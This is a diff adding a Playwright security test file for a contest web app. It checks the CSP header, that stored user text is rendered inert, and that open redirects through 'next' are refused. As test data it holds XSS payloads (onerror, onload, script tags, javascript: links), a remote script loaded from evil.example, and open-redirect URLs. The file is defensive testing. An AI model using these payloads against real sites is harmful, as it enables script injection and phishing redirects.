@@ -1,0 +1,186 @@
+// Security in the browser (issue 8): the host's Content-Security-Policy, script injection through the texts users
+// write (contest names, team names, display names, bios) rendered inert, and open-redirect attempts through "next".
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { appUrl, callApi, createActiveUser, launchBrowser, newPage, stack, type TestUser, waitForPath } from './helpers';
+
+let browser: Browser;
+
+beforeAll(async () => {
+  browser = await launchBrowser();
+});
+afterAll(async () => {
+  await browser?.close();
+});
+
+/** Records every CSP violation and every payload that ran, from the first script of each document on. */
+async function watchForAttacks(context: BrowserContext) {
+  await context.addInitScript(() => {
+    const record = window as unknown as { __violations: string[]; __ran: string[] };
+    record.__violations = [];
+    record.__ran = [];
+    document.addEventListener('securitypolicyviolation', (event) => {
+      record.__violations.push(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline'} (${event.sourceFile}:${event.lineNumber})`);
+    });
+  });
+}
+
+const violations = (page: Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+const payloadsRun = (page: Page) => page.evaluate(() => (window as unknown as { __ran: string[] }).__ran);
+
+describe('Content-Security-Policy of the host (issue 8)', () => {
+  it('allows scripts only from the host and the configured remotes, and connections only to them, the API and the pool', async () => {
+    const { config } = stack();
+    const response = await fetch(appUrl('/home'));
+    const policy = response.headers.get('content-security-policy') ?? '';
+    const directive = (name: string) =>
+      policy
+        .split(';')
+        .map((part) => part.trim().split(/\s+/))
+        .find(([key]) => key === name)
+        ?.slice(1) ?? [];
+    const remotes = Object.values(config.remotes).map((url) => new URL(url).origin);
+
+    expect(directive('script-src').sort()).toEqual(["'self'", ...remotes].sort());
+    expect(directive('connect-src').sort()).toEqual(
+      ["'self'", ...remotes, new URL(config.apiHost).origin, new URL(config.auth.userPoolEndpoint ?? '').origin].sort(),
+    );
+    expect(directive('object-src')).toEqual(["'none'"]);
+    expect(directive('frame-ancestors')).toEqual(["'none'"]);
+    expect(directive('base-uri')).toEqual(["'self'"]);
+  });
+
+  it('refuses a script injected into the page, and the app itself raises no violation', async () => {
+    const user = await createActiveUser();
+    const { page, context } = await newPage(browser, { user });
+    await watchForAttacks(context);
+    await page.goto(appUrl('/home'));
+    await page.getByRole('heading', { name: 'Your contests' }).waitFor();
+    await page.goto(appUrl('/profile'));
+    await page.getByText(user.callSign).first().waitFor();
+    expect(await violations(page)).toEqual([]);
+
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = "window.__ran.push('inline script')";
+      document.body.append(script);
+      const image = document.createElement('img');
+      image.setAttribute('src', 'data:,');
+      image.setAttribute('onerror', "window.__ran.push('event handler')");
+      image.setAttribute('onload', "window.__ran.push('event handler')");
+      document.body.append(image);
+      const remote = document.createElement('script');
+      remote.src = 'https://evil.example/steal.js';
+      document.body.append(remote);
+    });
+    await page.waitForFunction(() => (window as unknown as { __violations: string[] }).__violations.length >= 3);
+    expect(await payloadsRun(page)).toEqual([]);
+    expect((await violations(page)).join('\n')).toMatch(/script-src-elem blocked https:\/\/evil\.example/);
+    await context.close();
+  });
+});
+
+describe('script injection through what users write (issue 8)', () => {
+  // Each payload pushes to window.__ran if it ever runs: as HTML, as an event handler or as a javascript: link.
+  const payload = (label: string) => `<img src=x onerror="__ran.push('${label}')">`;
+  const NAME = `<svg/onload=__ran.push(1)><script>__ran.push(2)</script>`;
+  const TEAMS = [`<svg onload=__ran.push('team')>`, `javascript:__ran.push('team')`];
+  let owner: TestUser & { callSign: string };
+  let contestId: string;
+
+  beforeAll(async () => {
+    owner = await createActiveUser();
+    await callApi('POST', '/user-profile/edit-profile', {
+      user: owner,
+      body: { callSign: owner.callSign, ticker: owner.callSign, displayName: `<b onmouseover=__ran.push('x')>X</b>`, bio: payload('bio') },
+    });
+    const startsAt = Date.now() + 30 * 60_000;
+    const created = await callApi<{ data: { _id: string } }>('POST', '/contest/create-contest', {
+      user: owner,
+      body: {
+        name: NAME,
+        description: payload('description'),
+        startsAt: new Date(startsAt).toISOString(),
+        endsAt: new Date(startsAt + 3_600_000).toISOString(),
+        picksCount: 2,
+        startingCash: 10_000,
+        maxParticipants: 10,
+        visibility: 'public',
+        affiliations: TEAMS,
+        isTeamCollaboration: true,
+      },
+    });
+    contestId = created.data._id;
+    await callApi('POST', '/contest/join-contest', {
+      user: owner,
+      body: { contestId, picks: ['AAPL', 'MSFT'], affiliation: TEAMS[0] },
+    });
+  });
+
+  const screens: [string, () => string, (page: Page) => Promise<unknown>][] = [
+    ['/home', () => '/home', (page) => page.getByText(NAME).first().waitFor()],
+    ['/contest-detail', () => `/contest-detail/${contestId}`, (page) => page.getByText(TEAMS[1]).first().waitFor()],
+    ['/invitation', () => `/invitation/${contestId}`, (page) => page.getByText(NAME).first().waitFor()],
+    ['/edit-picks', () => `/edit-picks/${contestId}`, (page) => page.getByText(NAME).first().waitFor()],
+    [
+      '/edit-contest',
+      () => `/edit-contest/${contestId}`,
+      (page) => page.waitForFunction((name) => [...document.querySelectorAll('input')].some((input) => input.value === name), NAME),
+    ],
+    ['/profile', () => '/profile', (page) => page.getByText(payload('bio')).first().waitFor()],
+  ];
+
+  it.each(screens)('%s shows the texts as typed and runs none of them', async (_name, path, shown) => {
+    const { page, context } = await newPage(browser, { user: owner });
+    await watchForAttacks(context);
+    await page.goto(appUrl(path()));
+    await shown(page);
+    // The injected markup never became elements of the page.
+    expect(await page.locator('img[src="x"], svg[onload], b[onmouseover], main script').count()).toBe(0);
+    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
+    expect(await payloadsRun(page)).toEqual([]);
+    expect(await violations(page)).toEqual([]);
+    await context.close();
+  });
+
+  it('a signed-out visitor sees the join information as text too', async () => {
+    const { page, context } = await newPage(browser);
+    await watchForAttacks(context);
+    await page.goto(appUrl(`/join-contest-info/${contestId}`));
+    await page.getByText(NAME).first().waitFor();
+    expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
+    expect(await payloadsRun(page)).toEqual([]);
+    expect(await violations(page)).toEqual([]);
+    await context.close();
+  });
+});
+
+describe('open redirects through "next" (SPEC §2, issue 8)', () => {
+  const origin = () => new URL(stack().app).origin;
+  const attempts = [
+    'https://evil.example/steal',
+    '//evil.example/steal',
+    '/\\evil.example/steal',
+    '\\\\evil.example\\steal',
+    'javascript:window.__ran.push("next")',
+    'data:text/html,<script>alert(1)</script>',
+    `${'http'}://localhost.evil.example/home`,
+  ];
+
+  it.each(attempts)('"%s" leaves a signed-in user on Bullpen', async (next) => {
+    const user = await createActiveUser();
+    const { page, context } = await newPage(browser, { user });
+    await watchForAttacks(context);
+    await context.addInitScript((value) => {
+      if (sessionStorage.getItem('e2e-next')) return;
+      localStorage.setItem('next', value);
+      sessionStorage.setItem('e2e-next', '1');
+    }, next);
+    await page.goto(appUrl('/auth'));
+    await waitForPath(page, '/home');
+    await page.getByRole('heading', { name: 'Your contests' }).waitFor();
+    expect(new URL(page.url()).origin).toBe(origin());
+    expect(await page.evaluate(() => localStorage.getItem('next'))).toBeNull();
+    expect(await payloadsRun(page)).toEqual([]);
+    await context.close();
+  });
+});
